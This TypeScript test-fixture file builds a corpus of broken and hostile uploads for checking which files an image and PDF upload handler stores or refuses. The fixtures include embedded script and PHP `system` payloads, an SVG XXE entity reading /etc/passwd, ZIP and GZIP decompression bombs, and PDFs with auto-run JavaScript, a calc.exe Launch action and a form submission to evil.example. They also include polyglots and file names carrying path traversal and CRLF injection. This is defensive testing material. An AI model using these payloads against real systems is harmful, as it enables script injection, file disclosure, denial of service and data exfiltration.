import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { pngOf, resized, resizedWebp, withChunk, withComment } from './malicious-files.ts'
import { aPdf, handMade, onePage, stream } from './pdfs.ts'

/** Files that people send by mistake, and files made to break what opens them. */

export type Case = {
  name: string
  bytes: Buffer
  to: 'pictures' | 'documents' | 'photos'
  /** Its outcome; `either` where the library decides whether it still makes sense of it. */
  becomes: 'stored' | 'refused' | 'either'
  fileName?: string
  type?: string
}

const MB = 1024 * 1024
const SCRIPT = '<script>alert(1)</script><?php system("id"); ?>'

const plain = (width = 300, height = 200) => sharp({ create: { width, height, channels: 3, background: '#7a4' } })
/** Nothing in it can be packed. */
const noise = (width: number, height: number) =>
  sharp({
    create: { width, height, channels: 3, noise: { type: 'gaussian', mean: 128, sigma: 60 }, background: '#000' },
  })

/**
 * All of them; or those that are opened quickly: nothing of many megapixels or that unpacks to hundreds of MB, and of
 * papers, each of which starts a process, one in eight. What is refused in a paper, and why, is tested where it is
 * read.
 */
export async function corpus({ isShort = false } = {}): Promise<Case[]> {
  const quick = [
    ...(await pictures()),
    ...(await notPictures()),
    ...(await bombs()),
    ...(await pdfs()),
    ...(await odd()),
  ]
  if (!isShort) return withPhotos([...quick, ...(await large())])
  let papers = 0
  return quick.filter(({ name, to }) => to === 'pictures' || name === 'a PDF' || papers++ % 8 === 0)
}

/** Everything except papers again, as a photo of a provider's work; most is smaller than such a photo may be. */
function withPhotos(cases: readonly Case[]): Case[] {
  const becomes = { stored: 'either', refused: 'refused', either: 'either' } as const
  const pictures = cases.filter(({ to }) => to === 'pictures')
  return [...cases, ...pictures.map((one): Case => ({ ...one, to: 'photos', becomes: becomes[one.becomes] }))]
}

async function pictures(): Promise<Case[]> {
  const drawn: Record<string, Buffer> = {
    'a JPEG': await plain().jpeg().toBuffer(),
    'a progressive JPEG': await plain().jpeg({ progressive: true }).toBuffer(),
    'a JPEG for print (CMYK)': await plain().toColourspace('cmyk').jpeg().toBuffer(),
    'a JPEG on its side with its place': await plain()
      .jpeg()
      .withExif({ IFD0: { Artist: 'Secret Person' }, IFD3: { GPSLatitude: '49/1 15/1 0/1' } })
      .withMetadata({ orientation: 6 })
      .toBuffer(),
    'a PNG': await plain().png().toBuffer(),
    'a PNG in passes': await plain().png({ progressive: true }).toBuffer(),
    'a PNG of 16 bits': await plain().toColourspace('rgb16').png().toBuffer(),
    'a PNG with a palette': await plain().png({ palette: true }).toBuffer(),
    'a grey PNG that shines through': await plain().ensureAlpha(0.3).greyscale().png().toBuffer(),
    'a WebP': await plain().webp().toBuffer(),
    'a WebP without loss': await plain().webp({ lossless: true }).toBuffer(),
    'one pixel': await plain(1, 1).png().toBuffer(),
    'a very tall strip': await plain(3, 9000).png().toBuffer(),
    'a very wide strip': await plain(9000, 3).png().toBuffer(),
    'noise of 9 MB': await noise(2000, 1400).png().toBuffer(),
    'a script behind a PNG': Buffer.concat([await plain().png().toBuffer(), Buffer.from(SCRIPT)]),
    'a ZIP behind a JPEG': Buffer.concat([
      await plain().jpeg().toBuffer(),
      Buffer.from('PK\x03\x04'),
      Buffer.alloc(500),
    ]),
    'a JPEG with a script as its comment': withComment(await plain().jpeg().toBuffer(), SCRIPT),
    'a PNG with a script as its text': withChunk(await plain().png().toBuffer(), 'tEXt', Buffer.from(`x\0${SCRIPT}`)),
  }
  return [
    ...casesOf('pictures', 'stored', drawn),
    {
      name: 'a photo of a paper',
      bytes: drawn['a JPEG on its side with its place']!,
      to: 'documents',
      becomes: 'stored',
    },
  ]
}

async function notPictures(): Promise<Case[]> {
  const box = (brand: string) =>
    Buffer.concat([Buffer.from(`\0\0\0\x18ftyp${brand}\0\0\0\0mif1heic`), Buffer.alloc(400)])
  const files: Record<string, Buffer> = {
    'a HEIC of an iPhone': box('heic'),
    'a HEIC under its general brand': box('mif1'),
    'an MP4': box('mp42'),
    'an AVIF': await plain().avif({ effort: 0 }).toBuffer(),
    'a TIFF': await plain().tiff().toBuffer(),
    'a BMP': Buffer.concat([Buffer.from('BM'), Buffer.alloc(200)]),
    'an icon': Buffer.concat([Buffer.from([0, 0, 1, 0]), Buffer.alloc(200)]),
    'an SVG with a script': Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    'an SVG that reads a file': Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    ),
    'a page': Buffer.from(`<html>${SCRIPT}</html>`),
    words: Buffer.from('hello'),
    'a space': Buffer.from(' '),
    'a ZIP': Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(300)]),
    'a ZIP bomb': Buffer.concat([Buffer.from('PK\x03\x04'), deflateSync(Buffer.alloc(50 * MB))]),
    'a GZIP bomb': gzipSync(Buffer.alloc(50 * MB)),
    'a program of Linux': Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(300)]),
    'a program of Windows': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)]),
    'a GIF that is a script': Buffer.from(`GIF89a/*${SCRIPT}*/=1;`),
    'the beginning of a JPEG alone': Buffer.from('\xff\xd8\xff', 'latin1'),
    'the beginning of a PNG alone': Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    'the beginning of a WebP alone': Buffer.from('RIFF\0\0\0\0WEBP'),
    'a JPEG after a space': Buffer.concat([Buffer.from(' '), await plain().jpeg().toBuffer()]),
  }
  const cut = async (name: string, whole: Buffer, to: Case['to']): Promise<Case[]> =>
    [1, 3, 5, 7, 9].map((tenth) => ({
      name: `${tenth} tenths of ${name}`,
      bytes: whole.subarray(0, Math.floor((whole.length * tenth) / 10)),
      to,
      becomes: 'refused',
    }))
  return [
    ...casesOf('pictures', 'refused', files),
    ...(await cut('a JPEG', await noise(300, 200).jpeg().toBuffer(), 'pictures')),
    ...(await cut('a PNG', await noise(300, 200).png().toBuffer(), 'pictures')),
    ...(await cut('a WebP', await noise(300, 200).webp().toBuffer(), 'pictures')),
    ...(await cut('a PDF', await aPdf(), 'documents')),
  ]
}

async function bombs(): Promise<Case[]> {
  const refused: Record<string, Buffer> = {
    'a PNG of 30,000 by 30,000': pngOf(30_000, 30_000, 40),
    'a PNG of 30,000 by 1': pngOf(30_000, 1, 1),
    'a PNG that says it is endless': pngOf(0x7fffffff, 0x7fffffff, 1),
    'a PNG without width': pngOf(0, 100, 1),
    'a JPEG that says it is 65,500 square': resized(await plain().jpeg().toBuffer(), 65_500),
    'a JPEG that says it is 30,000 square': resized(await plain().jpeg().toBuffer(), 30_000),
    'a WebP that says it is 16,383 square': resizedWebp(await plain().webp().toBuffer(), 16_383),
  }
  return casesOf('pictures', 'refused', refused)
}

async function large(): Promise<Case[]> {
  const packedText = Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(200 * MB), { level: 9 })])
  const packedZeros = stream(Buffer.alloc(400 * MB), '/Type /ObjStm /N 1000000 /First 8', true)
  return [
    ...casesOf('pictures', 'stored', { 'a phone’s largest photo': await plain(8160, 6120).jpeg().toBuffer() }),
    ...casesOf('pictures', 'refused', {
      'a PNG of 64 megapixels': await plain(8000, 8000).png().toBuffer(),
      'a PNG of 64 megapixels in passes': await plain(8000, 8000).png({ progressive: true }).toBuffer(),
    }),
    ...casesOf('pictures', 'either', {
      'a PNG whose text unpacks to 200 MB': withChunk(await plain().png().toBuffer(), 'zTXt', packedText),
      'a PNG whose colours unpack to 200 MB': withChunk(await plain().png().toBuffer(), 'iCCP', packedText),
      'a progressive JPEG of 40 megapixels': await plain(8000, 5000).jpeg({ progressive: true }).toBuffer(),
      'a progressive JPEG of 40 megapixels with all colours': await plain(8000, 5000)
        .jpeg({ progressive: true, chromaSubsampling: '4:4:4' })
        .toBuffer(),
      'a PNG of 40 megapixels in passes': await plain(8000, 5000).png({ progressive: true }).toBuffer(),
      'a PNG of 40 megapixels': await plain(8000, 5000).png().toBuffer(),
      'a WebP of 30 megapixels': await plain(6000, 5000).webp({ effort: 0 }).toBuffer(),
    }),
    ...casesOf('documents', 'refused', {
      'a PDF of objects that unpack to 400 MB': onePage({ more: [packedZeros] }),
    }),
    ...casesOf('documents', 'either', {
      'a PDF drawing of 100 MB': onePage({ content: stream(Buffer.alloc(100 * MB, '0 0 m 9 9 l S '), '', true) }),
    }),
  ]
}

function casesOf(to: Case['to'], becomes: Case['becomes'], files: Record<string, Buffer>): Case[] {
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes, to, becomes }))
}

async function pdfs(): Promise<Case[]> {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
  const objectStream = (of: string) => stream(`5 0 ${of}`, '/Type /ObjStm /N 1 /First 4', true)
  const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`
  const refused: Record<string, Buffer> = {
    'a PDF of 31 pages': await aPdf({ pages: 31 }),
    'a PDF with a password': await aPdf({ password: 'secret' }),
    'a PDF with a file inside': await aPdf({ attachment: 'hello' }),
    'a PDF with a script at its opening': onePage({ catalogue: `/OpenAction ${script}` }),
    'a PDF with a script under a name in hexadecimal': onePage({
      catalogue: '/OpenAction << /S /J#61vaScript /#4a#53 (app.alert(1)) >>',
    }),
    'a PDF with a script in its names': onePage({
      catalogue: `/Names << /JavaScript << /Names [(a) 5 0 R] >> >>`,
      more: [script],
    }),
    'a PDF with a script in a packed object': onePage({ more: [objectStream(script)] }),
    'a PDF with a script on a link': onePage({
      page: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${script} >>] >>`,
    }),
    'a PDF with an action of a page': onePage({
      page: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /Named /N /Print >> >> >>',
    }),
    'a PDF that starts a program': onePage({ catalogue: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
    'a PDF that sends a form': onePage({ catalogue: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
    'a PDF form of XML': onePage({ catalogue: '/AcroForm << /XFA [(a) 5 0 R] >>', more: [stream('<xdp/>')] }),
    'a PDF with a film': onePage({ more: ['<< /Type /Annot /Subtype /RichMedia >>'] }),
    'a PDF with files of its own accord': onePage({
      catalogue: '/AF [5 0 R]',
      more: ['<< /Type /Filespec /EF << /F 6 0 R >> >>', stream('MZ')],
    }),
    'a PDF with another file behind its end': Buffer.concat([
      await aPdf(),
      Buffer.from('PK\x03\x04'),
      Buffer.alloc(3000, 'x'),
    ]),
    'a PDF without pages': handMade(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    'a PDF whose pages are their own parents': onePage({ pages: '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>' }),
    'a PDF of brackets in brackets': onePage({ more: [nested] }),
    'the beginning of a PDF alone': Buffer.from('%PDF-1.7\n%%EOF'),
    'a PDF of spaces': Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9 * MB, ' '), Buffer.from('\n%%EOF')]),
    'a page that calls itself a PDF': Buffer.from(`%PDF-1.7\n<html>${SCRIPT}</html>\n%%EOF`),
    'a PDF after a page': Buffer.concat([Buffer.from('<html></html>'), await aPdf()]),
  }
  const stored: Record<string, Buffer> = {
    'a PDF': await aPdf(),
    'a PDF of 30 pages': await aPdf({ pages: 30 }),
    'a PDF by hand': onePage(),
    'a PDF with a link': onePage({
      page: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.test) >> >>] >>',
    }),
    'a PDF of version 2': handMade(
      [
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>',
      ],
      '2.0',
    ),
  }
  const either: Record<string, Buffer> = {
    'a PDF with a page of 10,000 km': onePage({
      page: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99999999 99999999] /Contents 4 0 R >>',
    }),
    'a PDF with a page of nothing': onePage({
      page: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] /Contents 4 0 R >>',
    }),
    'a PDF that draws itself': onePage({
      page: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >> >>',
      content: stream('/F Do'),
      more: [
        stream(
          '/F Do /F Do',
          '/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /F 5 0 R >> >>',
        ),
      ],
    }),
    'a PDF with a picture of 30,000 square': onePage({
      page: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
      content: stream('99 0 0 99 0 0 cm /I Do'),
      more: [
        stream(
          Buffer.alloc(9 * MB),
          '/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceRGB /BitsPerComponent 8',
          true,
        ),
      ],
    }),
    'a PDF whose table of objects is wrong': Buffer.from(
      (await aPdf()).toString('latin1').replace(/startxref\n\d+/, 'startxref\n999999'),
      'latin1',
    ),
    'a PDF that counts its pages wrongly': onePage({ pages: '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>' }),
  }
  const photo: Case = {
    name: 'a PDF where a photo is asked for',
    bytes: await aPdf(),
    to: 'pictures',
    becomes: 'refused',
  }
  return [
    ...casesOf('documents', 'refused', refused),
    ...casesOf('documents', 'stored', stored),
    ...casesOf('documents', 'either', either),
    photo,
  ]
}

/** Names and types are never checked. */
async function odd(): Promise<Case[]> {
  const bytes = await plain(30, 20).png().toBuffer()
  const names = [
    '../../../etc/passwd',
    'C:\\Windows\\x.exe',
    'a"b\r\nx: y.png',
    '\0.png',
    'ü️🙂.png',
    'x'.repeat(3000),
    '',
    '.',
    'con.png',
  ]
  const named = names.map((fileName): Case => ({
    name: `a PNG named ${JSON.stringify(fileName.slice(0, 20))}`,
    bytes,
    to: 'pictures',
    becomes: 'stored',
    fileName,
  }))
  const typed = ['text/html', 'image/svg+xml', 'application/x-php', ''].map((type): Case => ({
    name: `a PNG that says it is ${type}`,
    bytes,
    to: 'pictures',
    becomes: 'stored',
    type,
  }))
  const large = Buffer.concat([bytes, Buffer.alloc(10 * MB)])
  return [...named, ...typed, { name: 'a PNG of more than 10 MB', bytes: large, to: 'pictures', becomes: 'refused' }]
}
